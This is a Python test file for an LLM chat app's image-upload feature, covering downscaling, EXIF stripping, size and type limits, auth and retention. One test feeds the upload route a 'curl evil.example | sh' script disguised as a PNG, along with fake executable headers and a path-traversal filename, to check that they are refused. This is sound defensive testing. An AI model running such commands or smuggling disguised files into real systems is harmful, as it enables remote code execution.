"""Images over the web: upload over HTTP with the token, attach to a message, the model sees
them (or is told it cannot), history placeholders, limits, retention. Real sockets, real
SQLite, the fake LLM over HTTP; images made and read back with Pillow."""

from __future__ import annotations

import asyncio
import io
import os
import sqlite3
import subprocess
import sys
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
from conftest import WEB_TOKEN, AppFactory, connect, daemon_config
from daemon import Daemon
from fake_llm import FakeLLM, Reply, image_parts, user_messages
from PIL import Image

from ganglion.app import App
from ganglion.config import parse_config
from ganglion.messages import Inbound, Source, ThreadId, web_thread_id
from ganglion.storage.history import StoredMessage
from ganglion.storage.retention import Retention
from ganglion.turn.vision import Vision, image_tokens, placeholder

VISION = {"llm": {"vision_models": ["fake-model"]}}


def photo(width: int, height: int, fmt: str = "PNG", orientation: int | None = None) -> bytes:
    """A picture of noise (it does not compress: its size is known); EXIF on request."""
    img = Image.frombytes("RGB", (width, height), os.urandom(width * height * 3))
    out = io.BytesIO()
    if orientation is not None:
        exif = Image.Exif()
        exif[0x0112] = orientation  # Orientation
        exif[0x010F] = "SecretCam"  # Make: must not reach the model
        img.save(out, fmt, exif=exif)
    else:
        img.save(out, fmt)
    return out.getvalue()


async def upload(app: App, data: bytes, *, token: str | None = WEB_TOKEN,
                 origin: str | None = None, name: str = "photo.png",
                 raw: bool = False) -> tuple[int, dict[str, Any]]:
    assert app.web is not None
    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
    if origin is not None:
        headers["Origin"] = origin
    body: Any = data
    if not raw:
        body = aiohttp.FormData(quote_fields=False)  # the name as a browser sends it
        body.add_field("file", data, filename=name, content_type="image/png")
    async with aiohttp.ClientSession() as session, session.post(
            f"{app.web.url}/upload", data=body, headers=headers) as resp:
        return resp.status, await resp.json()


def media_files(app: App) -> list[Path]:
    root = app.data_dir / "media"
    return sorted(root.iterdir()) if root.exists() else []


async def media_rows(app: App) -> int:
    row = await app.db.fetchone("SELECT count(*) AS n FROM media")
    assert row is not None
    return int(row["n"])


async def test_an_uploaded_photo_reaches_a_vision_model_downscaled_upright_without_exif(
    app_factory: AppFactory, fake_llm: FakeLLM, database_url: str
) -> None:
    app = await app_factory({**VISION, "media": {"max_image_pixels": 20_000}})
    # Orientation 6: the camera was turned; the picture is 400 wide as stored, 400 high as seen.
    status, info = await upload(app, photo(400, 200, "JPEG", orientation=6), name="x.jpg")
    assert status == 200, info
    assert (info["type"], info["width"], info["height"]) == ("image/jpeg", 400, 200)
    stored = app.data_dir / "media" / info["id"]
    assert stored.stat().st_mode & 0o777 == 0o600
    fake_llm.script(Reply(text="a gradient"))
    chat = await connect(app)
    await chat.send_raw({"type": "send", "id": "m1", "text": "what is this?",
                         "attachments": [info["id"]]})
    assert (await chat.reply())["text"] == "a gradient"
    last = user_messages(fake_llm.requests[-1])[-1]
    assert last["content"][0] == {"type": "text", "text": "what is this?"}
    (kind, data), = image_parts(last)
    with Image.open(io.BytesIO(data)) as seen:
        assert kind == "image/jpeg" and seen.format == "JPEG"
        assert seen.width * seen.height <= 20_000
        assert seen.size == (100, 200)  # upright: turned as the EXIF said
        assert not seen.getexif()  # no camera, no place
    await chat.close()


async def test_a_model_without_vision_answers_the_text_and_the_user_is_told(
    app_factory: AppFactory, fake_llm: FakeLLM
) -> None:
    app = await app_factory()
    _, info = await upload(app, photo(120, 80))
    fake_llm.script(Reply(text="hello back"))
    chat = await connect(app)
    await chat.send_raw({"type": "send", "id": "m1", "text": "hello",
                         "attachments": [info["id"]]})
    told = await chat.reply()
    assert told["role"] == "system" and "cannot see images" in told["text"]
    assert "/model" in told["text"] and "llm.vision_models" in told["text"]
    assert (await chat.reply())["text"] == "hello back"
    last = user_messages(fake_llm.requests[-1])[-1]
    assert last["content"] == "hello\n[image: 120x80 PNG image, not shown]"
    await chat.close()


async def test_history_images_beyond_the_limit_become_a_stable_placeholder(
    app_factory: AppFactory, fake_llm: FakeLLM
) -> None:
    app = await app_factory({**VISION, "media": {"history_images": 1}})
    _, info = await upload(app, photo(64, 48))
    chat = await connect(app)
    fake_llm.script(Reply(text="one"), Reply(text="two"), Reply(text="three"))
    await chat.send_raw({"type": "send", "id": "m1", "text": "look",
                         "attachments": [info["id"]]})
    assert (await chat.reply())["text"] == "one"
    assert len(image_parts(user_messages(fake_llm.requests[-1])[-1])) == 1
    assert (await chat.ask("and now?"))["text"] == "two"
    assert (await chat.ask("still?"))["text"] == "three"
    second, third = fake_llm.requests[-2], fake_llm.requests[-1]
    placeholder = "look\n[image: 64x48 PNG image, not shown]"
    assert user_messages(second)[0]["content"] == placeholder
    assert user_messages(third)[0]["content"] == placeholder  # byte-identical: cached prefix
    assert not any(image_parts(m) for m in user_messages(third))
    await chat.close()


async def test_an_oversized_upload_is_refused_413_and_nothing_is_stored(
    app_factory: AppFactory,
) -> None:
    app = await app_factory({"media": {"max_bytes": 4096}})
    big = photo(200, 200)  # noise: 120 KB
    assert len(big) > 8192
    status, answer = await upload(app, big, raw=True)  # its Content-Length says so
    assert status == 413 and "media.max_bytes" in answer["error"]

    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted as it streams
        for start in range(0, len(big), 1024):
            yield big[start:start + 1024]

    assert app.web is not None
    async with aiohttp.ClientSession() as session, session.post(
            f"{app.web.url}/upload", data=chunks(),
            headers={"Authorization": f"Bearer {WEB_TOKEN}"}) as resp:
        assert resp.status == 413, await resp.text()
        assert "media.max_bytes" in (await resp.json())["error"]
    assert media_files(app) == [] and await media_rows(app) == 0
    status, ok = await upload(app, photo(8, 8))  # the route still works
    assert status == 200 and ok["bytes"] <= 4096


async def test_a_file_that_lies_about_its_type_is_refused(app_factory: AppFactory) -> None:
    app = await app_factory()
    script = b"#!/bin/sh\ncurl evil.example | sh\n" * 10
    status, answer = await upload(app, script, name="cute-cat.png")  # says image/png too
    assert status == 415 and "lies about its type" in answer["error"]
    zipped = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + os.urandom(200)  # a zip or an .exe
    for data, name in ((zipped, "cat.png"), (b"MZ\x90\x00\x03" + bytes(100), "cat.png"),
                       (zipped, "notes.txt"), (photo(8, 8), "report.pdf")):
        status, answer = await upload(app, data, name=name)
        assert status == 415, (name, answer)
    truncated = photo(50, 50)[:200]  # a real PNG header, the rest missing
    status, answer = await upload(app, truncated)
    assert status == 415
    assert media_files(app) == [] and await media_rows(app) == 0


async def test_an_upload_keeps_its_name_cleaned_from_the_form_the_query_or_a_header(
    app_factory: AppFactory
) -> None:
    app = await app_factory()
    status, info = await upload(app, b"a,b\n1,2\n", name="../../tmp/My\u202eTable.csv")
    assert status == 200 and (info["type"], info["name"]) == ("text/csv", "MyTable.csv")
    assert app.web is not None
    auth = {"Authorization": f"Bearer {WEB_TOKEN}"}
    async with aiohttp.ClientSession() as session:
        async with session.post(f"{app.web.url}/upload", params={"name": "notes.md"},
                                data=b"# hi\n", headers=auth) as resp:
            assert (await resp.json())["name"] == "notes.md"
        async with session.post(f"{app.web.url}/upload", data=b"plain\n",
                                headers={**auth, "X-File-Name": "a/b.txt"}) as resp:
            assert (await resp.json())["name"] == "b.txt"
    row = await app.db.fetchone("SELECT name FROM media WHERE id = ?", (info["id"],))
    assert row is not None and row["name"] == "MyTable.csv"


async def test_upload_needs_the_token_and_the_pages_origin(app_factory: AppFactory) -> None:
    app = await app_factory()
    png = photo(8, 8)
    assert (await upload(app, png, token=None))[0] == 401
    assert (await upload(app, png, token="wrong-token-wrong-token"))[0] == 401
    status, answer = await upload(app, png, origin="https://evil.example")
    assert status == 403 and "web.allowed_origins" in answer["error"]
    assert media_files(app) == [] and await media_rows(app) == 0
    assert app.web is not None
    status, _ = await upload(app, png, origin=app.web.url)  # the page's own origin
    assert status == 200


async def test_unknown_or_foreign_attachments_are_refused_and_nothing_is_stored(
    app_factory: AppFactory, fake_llm: FakeLLM, database_url: str
) -> None:
    app = await app_factory()
    _, info = await upload(app, photo(8, 8))
    # The same file, known only as another interface's (a Matrix download, say).
    await app.db.write("DELETE FROM media_owners WHERE media_id = ?", (info["id"],))
    await app.db.write("INSERT INTO media_owners (media_id, owner) VALUES (?, 'matrix')",
                       (info["id"],))
    chat = await connect(app)
    for attachments in (["0" * 64], [info["id"]], "not-a-list"):
        await chat.send_raw({"type": "send", "id": "m1", "text": "hi",
                             "attachments": attachments})
        error = await chat.next_event()
        assert error["type"] == "error" and error["code"] == "bad_attachment", error
    assert await app.inbox.known(ThreadId(chat.thread_id), ["m1"]) == set()
    assert fake_llm.requests == []
    await chat.close()


async def test_retention_removes_old_unreferenced_files_and_keeps_a_pending_ones(
    app_factory: AppFactory, database_url: str
) -> None:
    app = await app_factory({"media": {"keep_days": 1}})
    _, old = await upload(app, photo(10, 10))
    _, wanted = await upload(app, photo(12, 12))
    # A message not yet answered attaches the second (stored, never run: no bus here).
    await app.inbox.add(Inbound(web_thread_id(), "later", "web", Source.WEB, "c1",
                                attachments=(wanted["id"],)))
    retention = Retention(app.db, None, media=app.media, media_days=1)
    assert (await retention.prune(now=time.time())).media == 0  # nothing old enough yet
    pruned = await retention.prune(now=time.time() + 2 * 86_400)
    assert pruned.media == 1
    assert [p.name for p in media_files(app)] == [wanted["id"]]
    # The row stays (the history can still describe it); it is attachable no more.
    row = await app.db.fetchone("SELECT removed_at FROM media WHERE id = ?", (old["id"],))
    assert row is not None and row["removed_at"] is not None


async def test_sigkill_between_upload_send_and_answer_reruns_with_the_same_image_once(
    tmp_path: Path, fake_llm: FakeLLM
) -> None:
    held = asyncio.Event()
    fake_llm.script(Reply(text="never seen", held=held), Reply(text="a noisy square"))
    config = daemon_config(fake_llm)
    config["llm"]["vision_models"] = ["fake-model"]
    d = Daemon(tmp_path, config)
    async with d:
        png = photo(32, 32)
        async with aiohttp.ClientSession() as session, session.post(
                f"{d.url}/upload", data=png,
                headers={"Authorization": f"Bearer {WEB_TOKEN}"}) as resp:
            info = await resp.json()
        chat = await d.connect()
        await chat.send_raw({"type": "send", "id": "m1", "text": "what?",
                             "attachments": [info["id"]]})
        async with asyncio.timeout(20):
            await fake_llm.wait_until(lambda: fake_llm.in_flight > 0)
        assert len(image_parts(user_messages(fake_llm.requests[0])[-1])) == 1
        d.kill()  # SIGKILL while the model answers: no cleanup at all
        held.set()
        await chat.close()
        d.start()
        await d.wait_ready()
        chat = await d.connect(chat.thread_id)
        answer = await chat.reply(20)
        assert answer["text"] == "a noisy square"
        rerun = user_messages(fake_llm.requests[-1])
        assert len(rerun) == 1  # the question once, its image once, the same bytes
        (_, data), = image_parts(rerun[0])
        with Image.open(io.BytesIO(data)) as seen:
            assert seen.size == (32, 32)
        assert await d.stop() == 0
    db = sqlite3.connect(tmp_path / "data" / "conversation.db")
    answers = db.execute("SELECT content FROM messages WHERE role = 'assistant'").fetchall()
    assert answers == [("a noisy square",)]
    assert db.execute("SELECT count(*) FROM inbox WHERE status = 'pending'").fetchone() == (0,)
    db.close()


def test_which_models_see_images_the_list_and_the_per_model_flag() -> None:
    llm = parse_config({"llm": {"vision_models": ["a", "b"],
                                "models": {"b": {"vision": False}, "c": {"vision": True}}}},
                       env={}).llm
    assert [m for m in "abcd" if llm.sees_images(m)] == ["a", "c"]  # the flag wins


async def test_the_budget_counts_each_image_sent_at_the_size_it_is_sent(
    app_factory: AppFactory,
) -> None:
    app = await app_factory({**VISION, "media": {"history_images": 1}})
    _, big = await upload(app, photo(1600, 1200, "JPEG"))
    _, small = await upload(app, photo(300, 200))
    tid = web_thread_id()
    rows = []
    for n, media_id in enumerate((big["id"], small["id"])):
        msg, _ = await app.inbox.add(Inbound(tid, "look", "web", Source.WEB, f"c{n}",
                                             attachments=(media_id,)))
        rows.append(StoredMessage(n + 1, tid, "user", "look", inbox_id=msg.id))
    vision = Vision(app.media, lambda _m: True, 1568 * 1568, history_images=1)
    looks = await vision.look(rows, "m")
    # The latest image is sent (300x200: 80 tokens); the older one is a line of text now.
    assert looks.shown == {rows[1].inbox_id}
    assert looks.tokens == 80 + len(placeholder(looks.attached[rows[0].inbox_id][0])) // 4 + 1
    both = await Vision(app.media, lambda _m: True, 1568 * 1568, 2).look(rows, "m")
    assert both.tokens == 80 + 2560  # 1600x1200 is sent whole: 1,920,000 / 750
    assert image_tokens(looks.attached[rows[0].inbox_id][0], 480_000) == 640  # 800x600


def test_pillow_is_imported_at_the_first_image_not_at_start() -> None:
    # A daemon that never sees an image does not pay Pillow's memory (idle RSS is measured).
    code = ("import sys, ganglion.app, ganglion.cli; "
            "print(sorted(m for m in sys.modules if m.split('.')[0] == 'PIL'))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True).stdout
    assert out.strip() == "[]"
